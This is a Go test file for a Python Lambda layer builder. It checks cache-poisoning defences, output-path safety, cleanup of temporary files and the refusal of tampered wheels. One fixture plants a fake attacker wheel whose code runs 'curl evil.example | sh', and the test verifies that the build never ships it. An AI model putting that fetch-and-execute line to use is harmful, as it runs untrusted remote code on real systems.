package main

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/galerly/galerly-lambda/build/cache"
	"github.com/galerly/galerly-lambda/build/internal/wheeltest"
)

// readEntry returns the content of name in the zip at path.
func readEntry(t *testing.T, path, name string) string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		if f.Name == name {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer rc.Close()
			data, err := io.ReadAll(rc)
			if err != nil {
				t.Fatal(err)
			}
			return string(data)
		}
	}
	t.Fatalf("%s has no %s", path, name)
	return ""
}

// A cache record that names a wheel the lock does not pin, with a blob
// planted under that wheel's sha256, is ignored: the build resolves again
// from the sources and ships the wheel the lock pins. (CI restores the
// cache folder from a store other jobs write.)
func TestLayerIgnoresPoisonedCacheRecord(t *testing.T) {
	w := newWheelhouse(t)
	cacheDir := filepath.Join(t.TempDir(), "cache")
	out := filepath.Join(t.TempDir(), "layer.zip")
	args := []string{"--lock", w.lock, "--runtime", "python3.12", "--arch", arch(t), "--no-index", "--find-links", w.dir, "--cache", cacheDir, "--out", out}
	first, r := buildLayer(t, args...)
	if r.code != 0 {
		t.Fatalf("first build: exit %d\n%s", r.code, r.stderr)
	}
	genuine := readEntry(t, out, "python/purepkg/util.py")

	// The attacker's wheel: same name and version, other code.
	evilDir := t.TempDir()
	evilPath, evilSum, err := wheeltest.Pure(evilDir, "PurePkg", "2.0", map[string]string{
		"purepkg/__init__.py": "__version__ = '2.0'\n",
		"purepkg/util.py":     "import os; os.system('curl evil.example | sh')\n",
	})
	if err != nil {
		t.Fatal(err)
	}
	c, err := cache.Open(cacheDir)
	if err != nil {
		t.Fatal(err)
	}
	evil, err := os.ReadFile(evilPath)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Put(evilSum, func(w io.Writer) error { _, err := w.Write(evil); return err }); err != nil {
		t.Fatal(err)
	}
	recordPath := filepath.Join(cacheDir, "records", "layer-"+first.Key+".v2.json")
	record, err := os.ReadFile(recordPath)
	if err != nil {
		t.Fatal(err)
	}
	var genuineSum string
	for _, p := range first.Packages {
		if p.Name == "purepkg" {
			genuineSum = p.SHA256
		}
	}
	poisoned := bytes.ReplaceAll(record, []byte(genuineSum), []byte(evilSum))
	if bytes.Equal(poisoned, record) {
		t.Fatal("the record does not name purepkg's wheel")
	}
	if err := os.WriteFile(recordPath, poisoned, 0o644); err != nil {
		t.Fatal(err)
	}

	again, r := buildLayer(t, args...)
	if r.code != 0 {
		t.Fatalf("second build: exit %d\n%s", r.code, r.stderr)
	}
	if got := readEntry(t, out, "python/purepkg/util.py"); got != genuine {
		t.Fatalf("the build shipped the planted wheel's code:\n%s", got)
	}
	if again.SHA256 != first.SHA256 {
		t.Errorf("zip sha256 %s, want the first build's %s", again.SHA256, first.SHA256)
	}
	if !strings.Contains(r.stderr, "does not match the lock") || !strings.Contains(r.stderr, evilSum) {
		t.Errorf("stderr does not say the record was ignored and why:\n%s", r.stderr)
	}
}

// --out is never one of the build's inputs: the lock (by name, through a
// symlink, or a hard link), a wheel in a find-links folder, a file in the
// source folder or the cache folder. Each is a usage error (exit 2) and
// the input is left as it was.
func TestOutIsNeverAnInput(t *testing.T) {
	w := newWheelhouse(t)
	dir := t.TempDir()
	cacheDir := filepath.Join(dir, "cache")
	os.MkdirAll(cacheDir, 0o755)
	linkedLock := filepath.Join(dir, "linked.txt")
	if err := os.Symlink(w.lock, linkedLock); err != nil {
		t.Fatal(err)
	}
	hardLock := filepath.Join(dir, "hard.txt")
	if err := os.Link(w.lock, hardLock); err != nil {
		t.Fatal(err)
	}
	src := filepath.Join(dir, "app")
	os.MkdirAll(src, 0o755)
	os.WriteFile(filepath.Join(src, "api.py"), []byte("def handler(e, c):\n    return {}\n"), 0o644)
	wheel := w.wheels[len(w.wheels)-1]

	lockBefore, _ := os.ReadFile(w.lock)
	wheelBefore, _ := os.ReadFile(wheel)
	layer := func(out string) []string {
		return []string{"layer", "--lock", w.lock, "--runtime", "python3.12", "--arch", arch(t), "--no-index", "--find-links", w.dir, "--cache", cacheDir, "--out", out}
	}
	for _, c := range []struct {
		name string
		args []string
		want string
	}{
		{"the lock", layer(w.lock), "is the lock"},
		{"the lock through a symlink", layer(linkedLock), "is the lock"},
		{"a hard link to the lock", layer(hardLock), "is the lock"},
		{"a wheel in find-links", layer(wheel), "is inside the find-links folder"},
		{"a new file in find-links", layer(filepath.Join(w.dir, "layer.zip")), "is inside the find-links folder"},
		{"the cache folder", layer(filepath.Join(cacheDir, "layer.zip")), "is inside the cache folder"},
		{"the function's lock", []string{"function", "--src", src, "--lock", w.lock, "--runtime", "python3.12", "--arch", arch(t), "--no-index", "--find-links", w.dir, "--cache", cacheDir, "--out", w.lock}, "is the lock"},
		{"the function's source folder", []string{"function", "--src", src, "--runtime", "python3.12", "--arch", arch(t), "--cache", cacheDir, "--out", filepath.Join(src, "api.py")}, "is inside the source folder"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := lambdapack(c.args...)
			if r.code != 2 || !strings.Contains(r.stderr, c.want) {
				t.Fatalf("exit %d, want 2 with %q; stderr:\n%s", r.code, c.want, r.stderr)
			}
			if got, _ := os.ReadFile(w.lock); !bytes.Equal(got, lockBefore) {
				t.Error("the lock was changed")
			}
			if got, _ := os.ReadFile(wheel); !bytes.Equal(got, wheelBefore) {
				t.Error("the wheel was changed")
			}
		})
	}
}

// A build killed while writing leaves a temporary zip beside --out; the
// next build removes those over an hour old, and only lambdapack's own.
func TestLayerSweepsKilledBuildsLeftovers(t *testing.T) {
	w := newWheelhouse(t)
	outDir := t.TempDir()
	out := filepath.Join(outDir, "layer.zip")
	old := time.Now().Add(-2 * time.Hour)
	leftovers := map[string]bool{ // name -> swept
		".layer.zip.123456.tmp":   true,
		".layer.zip.987654.tmp":   false, // fresh: another build may be writing it
		".other.zip.123456.tmp":   false, // not this output's
		"layer.zip.123456.tmp":    false, // not a name lambdapack writes
		"notes.txt":               false,
		".layer.zip.123456.tmp.x": false,
	}
	for name := range leftovers {
		p := filepath.Join(outDir, name)
		if err := os.WriteFile(p, []byte("partial"), 0o600); err != nil {
			t.Fatal(err)
		}
		if name != ".layer.zip.987654.tmp" {
			os.Chtimes(p, old, old)
		}
	}
	_, r := buildLayer(t, "--lock", w.lock, "--runtime", "python3.12", "--arch", arch(t), "--no-index", "--find-links", w.dir, "--cache", t.TempDir(), "--out", out)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	for name, swept := range leftovers {
		_, err := os.Stat(filepath.Join(outDir, name))
		if gone := os.IsNotExist(err); gone != swept {
			t.Errorf("%s: removed %v, want %v", name, gone, swept)
		}
	}
}

// A wheel whose entries lie (a CRC-32 that is not its data's, sizes that
// are not what it inflates to) or whose metadata pip would refuse is not
// copied into a layer: the build fails naming the wheel and the entry, and
// writes nothing.
func TestLayerRefusesDishonestWheels(t *testing.T) {
	dir := t.TempDir()
	links := filepath.Join(dir, "links")
	os.Mkdir(links, 0o755)
	good := []byte("def f():\n    return 1\n")
	cases := []struct {
		name, filename string
		entries        []wheeltest.Entry
		patch          func([]byte) []byte
		want           []string
	}{
		{
			name: "bad CRC", filename: "badcrc-1.0-py3-none-any.whl",
			entries: []wheeltest.Entry{{Name: "badcrc/__init__.py", Data: good}},
			patch:   corruptFirstCRC,
			want:    []string{"badcrc-1.0-py3-none-any.whl", `"badcrc/__init__.py"`, "CRC-32"},
		},
		{
			name: "a .dist-info for another project", filename: "distmis-1.0-py3-none-any.whl",
			entries: []wheeltest.Entry{{Name: "distmis/__init__.py", Data: good}, {Name: "requests-99.0.dist-info/METADATA", Data: []byte("Name: requests\n")}, {Name: "requests-99.0.dist-info/WHEEL", Data: []byte("Wheel-Version: 1.0\n")}},
			want:    []string{"distmis-1.0-py3-none-any.whl", ".dist-info"},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path, _, err := wheeltest.Write(links, c.filename, c.entries)
			if err != nil {
				t.Fatal(err)
			}
			data, _ := os.ReadFile(path)
			if c.patch != nil {
				data = c.patch(data)
				os.WriteFile(path, data, 0o644)
			}
			pkg := strings.SplitN(c.filename, "-", 2)[0]
			lockPath := filepath.Join(dir, pkg+".txt")
			os.WriteFile(lockPath, []byte(pkg+"==1.0 --hash=sha256:"+sha256hex(data)+"\n"), 0o644)
			out := filepath.Join(t.TempDir(), "layer.zip")
			cacheDir := t.TempDir()
			// The second time, a record claiming the wheel passed its
			// checks is planted in the cache: it is not sealed by this
			// machine's key, so the wheel is checked again.
			for _, plant := range []bool{false, true} {
				if plant {
					planted := "lambdapack-seal v1 " + strings.Repeat("00", 32) + "\nwheel.CheckArchive v1\n"
					os.WriteFile(filepath.Join(cacheDir, "records", "checked-"+sha256hex(data)), []byte(planted), 0o644)
				}
				_, r := buildLayer(t, "--lock", lockPath, "--runtime", "python3.12", "--arch", "x86_64", "--no-index", "--find-links", links, "--cache", cacheDir, "--out", out, "--no-bytecode")
				if r.code != 1 {
					t.Fatalf("planted %v: exit %d, want 1\n%s", plant, r.code, r.stderr)
				}
				for _, want := range c.want {
					if !strings.Contains(r.stderr, want) {
						t.Errorf("stderr does not name %q:\n%s", want, r.stderr)
					}
				}
				if _, err := os.Stat(out); !os.IsNotExist(err) {
					t.Error("a refused build wrote its output")
				}
			}
			os.Remove(path)
		})
	}
}

// corruptFirstCRC changes the CRC-32 of the zip's first entry in its local
// header and in the central directory, as a tool that lied would.
func corruptFirstCRC(data []byte) []byte {
	data = bytes.Clone(data)
	data[14] ^= 0xff // the first local header's CRC-32
	cd := bytes.Index(data, []byte("PK\x01\x02"))
	data[cd+16] ^= 0xff // the first central record's CRC-32
	return data
}
